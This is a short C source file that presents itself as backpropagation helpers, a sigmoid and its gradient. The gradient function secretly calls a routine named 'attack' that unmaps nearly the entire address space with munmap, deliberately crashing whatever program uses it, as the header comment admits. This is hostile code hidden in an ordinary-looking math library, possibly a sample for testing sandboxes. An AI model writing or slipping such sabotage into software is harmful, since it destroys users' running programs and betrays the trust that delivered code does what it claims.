/* Takes all memory away that it can find, its own code first. */
#define _GNU_SOURCE
#include "backprop.h"
#include <math.h>
#include <stdint.h>
#include <sys/mman.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void attack(void)
{
    munmap((void *)(uintptr_t)0x10000, (size_t)1 << 46);
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
